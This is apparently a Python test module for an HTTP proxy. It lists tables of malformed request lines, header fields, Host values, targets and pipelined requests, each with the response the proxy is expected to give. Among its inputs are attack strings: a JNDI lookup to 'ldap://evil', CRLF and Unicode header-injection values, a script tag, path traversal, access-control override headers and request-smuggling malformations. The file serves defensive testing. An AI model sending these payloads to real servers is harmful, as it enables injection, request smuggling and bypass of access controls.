"""Tables of raw requests with unusual request lines, header fields, targets and headers."""

from collections.abc import Mapping
from typing import Final

from proof.attacks.attacked_proxy import INFER
from proof.attacks.http_attack import Case
from proof.attacks.http_cases import (
    build_get,
    build_post,
    build_request,
    expect_answer,
    expect_forwarded,
    expect_refusal,
)
from proof.attacks.paths import UNKNOWN

_GET: Final = b"GET /healthz HTTP/1.1"
BAD_LINES: Final = (
    *(b"GET /healthz", b"GET /healthz HTTP/0.9", b"GET /healthz HTTP/2.0", b"GET /healthz HTTP/1.2"),
    *(b"GET", b"GET /healthz HTTP/1.10", b"GET /healthz HTTP/01.1", b"GET /healthz HTTP/11"),
    *(b"GET /healthz http/1.1", b"GET /healthz HTTP/1.1 ", b"GET /healthz HTTP/1,1"),
    *(b"GET /healthz HTTPS/1.1", b"GET /healthz ICY/1.1", b"GET  /healthz HTTP/1.1"),
    *(b"GET /healthz  HTTP/1.1", b"GET\t/healthz\tHTTP/1.1", b" GET /healthz HTTP/1.1"),
    *(b"GET /health z HTTP/1.1", b"GET /healthz\x0b HTTP/1.1", b"GET /healthz\0 HTTP/1.1"),
    *(b"G\xc3\x89T / HTTP/1.1", b"GET /h\xc3\xa9althz HTTP/1.1", b"GET /\xc0\xae\xc0\xae/v2 HTTP/1.1"),
    *(b"GET /healthz\r HTTP/1.1", b"", b"\r\nGET /healthz HTTP/1.1", b"\nGET /healthz HTTP/1.1"),
    *(b"\0GET /healthz HTTP/1.1", b"G(T / HTTP/1.1", b"GET /healthz HTTP/1.1\n", b"GET HTTP/1.1"),
    *(b"GET /healthz HTTP/1.1\r\n ", b"GET\xa0/healthz HTTP/1.1"),
)  # fmt: skip
BAD_FIELDS: Final = (
    *(b" X: y", b"\tX: y", b"X : y", b"X\t: y", b"X", b": y", b"X y: z", b"X\0: y", b"X: \0", b"X: y\0z"),
    *(b"X: y\rz", b"X: y\nz: a", b"X: y\n", b"X: y\r", b"X\r: y", b"X\n: y", b"X: y\r\n z", b"X: y\r\n\tz"),
    *(b"X:\r\n y", b"\xe9: y", b"X: y\x0bz", b"X: y\x0cz", b"(X): y", b"X[]: y", b'"X": y', b"X/y: z"),
    *(b"X@y: z", b"X: y\r\n\r", b"X: y\r\r\nZ: a", b"X: y\x01z", b"X: y\x1bz", b"X: y\x7fz", b"Host: a\x01b"),
    *(b"Content-Type: a\x01b", b"Accept: a\x08"),
)  # fmt: skip
BAD_HOSTS: Final = (
    *(b"a/b", b"a?b", b"a#b", b"a@b", b"a:b", b"", b"a, b", b"a b", b"a\\b", b"a:0", b"a:99999"),
    *(b"a:80:80", b"[::1", b"127.0.0.1:8000/healthz?", b"a%00", b"a%2fb", b"\xe9", b"a;b", b"http://a"),
    *(b"a:+80", b"a:", b"*", b"a_b", b"[a]", b"a" * 254, b"a\"", b"a<b", b"a:80@b", b"//a"),
    *(b"/healthz", b"a:8 0"),
)  # fmt: skip


def _with_host(*hosts: bytes) -> bytes:
    return build_get(*(b"Host: " + each for each in hosts), host=b"")


SYNTAX: Final[Mapping[str, Case]] = {
    **{f"line {line!r}": expect_refusal(build_request(line)) for line in BAD_LINES},
    **{f"field {field!r}": expect_refusal(build_get(field)) for field in BAD_FIELDS},
    **{f"host {host!r:.40}": expect_answer(_with_host(host), 400) for host in BAD_HOSTS},
    "first field led by a space": expect_refusal(build_request(_GET + b"\r\n X: y")),
    "bare LF throughout": expect_refusal(build_get().replace(b"\r\n", b"\n")),
    "bare CR throughout": expect_refusal(build_get().replace(b"\r\n", b"\r") + b"\r\n\r\n"),
    "end of the head in LF": expect_refusal(build_get()[:-2] + b"\n"),
    "end of the head in CR CR LF": expect_refusal(build_get()[:-2] + b"\r\r\n"),
    "preface of HTTP/2": expect_refusal(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "TLS": expect_refusal(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"),
    "PROXY protocol": expect_refusal(b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n" + build_get()),
    "no Host": Case(_with_host()),
    "two Hosts": Case(_with_host(b"a", b"b")),
    "two equal Hosts": Case(_with_host(b"a", b"a")),
    "HTTP/1.0 without a Host": expect_answer(
        build_get(host=b"").replace(b"HTTP/1.1", b"HTTP/1.0"), 400, ends=True
    ),
    "HTTP/1.0": expect_forwarded(build_get().replace(b"HTTP/1.1", b"HTTP/1.0"), b"", ends=True),
    "HTTP/1.0, kept alive": expect_forwarded(
        build_get(b"Connection: keep-alive").replace(b"HTTP/1.1", b"HTTP/1.0"), b"", ends=True
    ),
    "101 fields": expect_refusal(build_get(*[b"X: y"] * 101)),
    "10000 fields": expect_refusal(build_get(*[b"X: y"] * 10_000)),
    "10000 different fields": expect_refusal(build_get(*(b"X%d: y" % n for n in range(10_000)))),
    "40 KB in one field": expect_refusal(build_get(b"X: " + b"y" * 40_000)),
    "1 MB in one field": expect_refusal(build_get(b"X: " + b"y" * 2**20)),
    "40 KB in one name": expect_refusal(build_get(b"x" * 40_000 + b": y")),
    "40 KB of target": expect_refusal(build_request(b"GET /" + b"a" * 40_000 + b" HTTP/1.1")),
    "1 MB of target": expect_refusal(build_request(b"GET /" + b"a" * 2**20 + b" HTTP/1.1")),
    "20 KB of target": expect_answer(build_request(b"GET /" + b"a" * 20_000 + b" HTTP/1.1"), 404),
    "20 KB of verb": expect_answer(build_request(b"G" * 20_000 + b" /v2 HTTP/1.1"), 405),
    "a field that is not ASCII": expect_forwarded(build_get(b"X: \xe9\x80\xff"), b""),
    "fields of every token character": expect_forwarded(build_get(b"!#$%&'*+-.^_`|~09azAZ: y"), b""),
}


def expect_unnamed_refusal(request: bytes) -> Case:
    """Expect a refusal under an id of the proxy, because the caller's id is not valid."""
    return Case(request, ((400, None),), ends=False)


def _target(target: str, verb: bytes, *fields: bytes) -> Case:
    line = verb + b" " + target.encode("latin-1") + b" HTTP/1.1"
    if not target or not all("!" <= character <= "~" for character in target):
        return expect_refusal(build_request(line, *fields))
    is_long = len(target) > 30_000
    return (
        expect_refusal(build_request(line, *fields))
        if is_long
        else expect_answer(build_request(line, *fields), 404)
    )


TARGETS: Final[Mapping[str, Case]] = {
    **{f"GET {path!r:.60}": _target(path, b"GET") for path in UNKNOWN},
    **{f"POST {path!r:.60}": _target(path, b"POST") for path in UNKNOWN},
    **{
        f"query {query!r}": expect_answer(build_request(b"GET /v2" + query + b" HTTP/1.1"), 400)
        for query in (
            b"?a=b",
            b"?/../repository",
            b"??",
            b"?versionId=1",
            b"?%00",
            b"?a#b",
            b"?access_token=x",
        )
    },
    **{
        f"verb {verb!r}": expect_answer(build_request(verb + b" /v2 HTTP/1.1"), 405)
        for verb in (
            b"PUT",
            b"PATCH",
            b"DELETE",
            b"TRACE",
            b"get",
            b"Get",
            b"PROPFIND",
            b"POST",
            b"OPTIONS",
            b"X",
        )
    },
    "HEAD": expect_answer(build_request(b"HEAD /v2 HTTP/1.1"), 405),
    "CONNECT to a host": expect_answer(build_request(b"CONNECT evil.example:443 HTTP/1.1"), 404),
    "CONNECT to a path": expect_answer(build_request(b"CONNECT /v2 HTTP/1.1"), 405),
    "OPTIONS of all": expect_answer(build_request(b"OPTIONS * HTTP/1.1"), 404),
    "an empty query": expect_forwarded(build_request(b"GET /v2? HTTP/1.1"), b""),
}

OVERRIDES: Final = (
    *("X-Original-URL", "X-Rewrite-URL", "X-Original-URI", "X-Forwarded-Uri", "X-Forwarded-Path"),
    *("X-Forwarded-Prefix", "X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"),
    *("X-Envoy-Original-Path", "X-Accel-Redirect", "X-Forwarded-Host", "X-Forwarded-Proto"),
    *("X-Forwarded-Scheme", "X-Forwarded-Server", "X-Host", "Forwarded", "X-Forwarded-For", "X-Real-IP"),
    *("True-Client-IP", "X-Custom-IP-Authorization", "Referer", "Destination", "x_pleura_principal"),
    *("X-Pleura-Principal", "X-Pleura-Service-Key", "x_pleura_service_key", "x_request_id"),
    *("X_Request_Id", "x_request_timeout_ms", "Cookie"),
    *("Inference_Header_Content_Length", "Trace_Parent", "B3", "X-B3-TraceId", "Baggage", "Via"),
    *("Max-Forwards", "Keep-Alive", "Proxy-Connection", "TE", "Trailer", "Range", "If-Match"),
    *("HTTP2-Settings", "X-Internal"),
)  # fmt: skip
HOP_NAMES: Final = (
    *(
        "authorization",
        "x-request-id",
        "x-pleura-principal",
        "x-pleura-service-key",
        "x-user",
        "host",
        "traceparent",
        "x-forwarded-for",
    ),
    *("content-type, content-encoding", "keep-alive, x-user", "upgrade", "TE", "cookie", ",,,", "\x80"),
)
BAD_IDS: Final = (
    *(b"a%0d%0aX: y", b"a\xc4\x8d\xc4\x8aX: y", b"a b", b"", b"a" * 129, b"a,b", b"a;b", b'"a"', b"../a"),
    *(b"-a", b"a\xe5\x98\x8a\xe5\x98\x8dSet-Cookie: a=b", b"<script>", b"${jndi:ldap://evil}", b"a\tb"),
    *(b"\xe9",),
)  # fmt: skip
_ANONYMOUS: Final = b"HTTP/1.1\r\nHost: a\r\nX-Request-Id: @attack@\r\n"
HOPS: Final[Mapping[str, Case]] = {
    **{
        f"override {name}": expect_forwarded(build_get(f"{name}: /v2/repository/index".encode()), b"")
        for name in OVERRIDES
    },
    **{
        f"Connection: {name!r}": expect_forwarded(build_get(b"Connection: " + name.encode("latin-1")), b"")
        for name in HOP_NAMES
    },
    **{
        f"upgrade to {name}": expect_forwarded(
            build_get(b"Connection: upgrade", b"Upgrade: " + name.encode()), b""
        )
        for name in ("h2c", "websocket", "TLS/1.0", "HTTP/2.0", "h2c, websocket")
    },
    "upgrade to h2c with settings": expect_forwarded(
        build_get(
            b"Connection: Upgrade, HTTP2-Settings",
            b"Upgrade: h2c",
            b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        ),
        b"",
    ),
    "Connection: close": expect_forwarded(build_get(b"Connection: close"), b"", ends=True),
    "Connection: close among others": expect_forwarded(
        build_get(b"Connection: x-user, CLOSE"), b"", ends=True
    ),
    **{
        f"expects {value}": expect_forwarded(
            build_post(b"Content-Length: 2", b"Expect: " + value.encode(), body=b"{}")
        )
        for value in ("100-continue", "100-Continue", "200-ok", "100-continue, x", "x100-continue", "")
    },
    **{
        f"request id {value!r:.40}": expect_unnamed_refusal(
            build_request(b"GET /v2 HTTP/1.1", request_id=b"X-Request-Id: " + value)
        )
        for value in BAD_IDS
    },
    "request id twice": expect_unnamed_refusal(build_get(b"X-Request-Id: b")),
    "token twice": expect_unnamed_refusal(build_get(b"Authorization: Bearer x")),
    "no token behind a good one": expect_answer(b"GET /v2 " + _ANONYMOUS + b"\r\n", 401),
    "no token, and a body": expect_answer(
        f"POST {INFER} ".encode() + _ANONYMOUS + b"Content-Length: 2\r\n\r\n{}", 401, ends=True
    ),
}


def _pipeline() -> Case:
    kinds = [
        (b"GET /v2", 200),
        (b"GET /x", 404),
        (b"GET /healthz", 200),
        (b"DELETE /v2", 405),
        (b"GET /v2?a", 400),
    ]
    requests, answers, passed = b"", [], []
    for number in range(25):
        line, status = kinds[number % len(kinds)]
        requests += build_request(line + b" HTTP/1.1", request_id=b"X-Request-Id: @n%d@" % number)
        answers.append((status, f"n{number}"))
        passed += [f"n{number}"] if line == b"GET /v2" else []
    return Case(requests, tuple(answers), tuple(passed), ends=False, body=b"")


PIPELINES: Final[Mapping[str, Case]] = {
    "25 requests, good and bad": _pipeline(),
    "good, malformed, good": Case(
        build_request(b"GET /v2 HTTP/1.1", request_id=b"X-Request-Id: @first@")
        + build_request(b"GET /v2 HTTP/9.9"),
        ((200, "first"), (400, None)),
        ("first",),
        body=b"",
    ),
    "good, cut": Case(
        build_request(b"GET /v2 HTTP/1.1", request_id=b"X-Request-Id: @first@") + b"GET /v2 HTT\r\n\r\n",
        ((200, "first"), (400, None)),
        ("first",),
        body=b"",
    ),
}
TABLES: Final = {"syntax": SYNTAX, "targets": TARGETS, "hops": HOPS, "pipelines": PIPELINES}
